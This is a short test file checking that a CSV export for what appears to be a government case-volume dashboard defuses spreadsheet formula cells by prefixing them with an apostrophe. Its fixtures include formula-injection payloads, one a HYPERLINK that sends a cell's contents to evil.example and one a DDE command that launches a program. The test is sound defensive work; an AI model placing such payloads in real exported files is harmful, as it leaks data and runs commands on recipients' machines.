import { describe, expect, it } from 'vitest';
import { tableCsv } from './export';

describe('figures as CSV', () => {
	it('defuses a cell a spreadsheet would run, a name given by a town admin included', () => {
		const csv = tableCsv({
			id: 'volume-by-place',
			title: '办件量',
			columns: [
				{ key: 'place', label: '地点' },
				{ key: 'n', label: '件数', numeric: true }
			],
			rows: [
				{ place: '=HYPERLINK("http://evil.example/?x="&A1,"点我")', n: 3 },
				{ place: "+cmd|' /C calc'!A0", n: -1 },
				{ place: '=1+1\n第二行', n: null }
			]
		});
		const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
		expect(lines[0]).toBe('地点,件数');
		expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")",3`);
		expect(lines[2]).toBe(`'+cmd|' /C calc'!A0,-1`);
		expect(lines[3]).toBe(`"'=1+1\n第二行",`);
	});
});
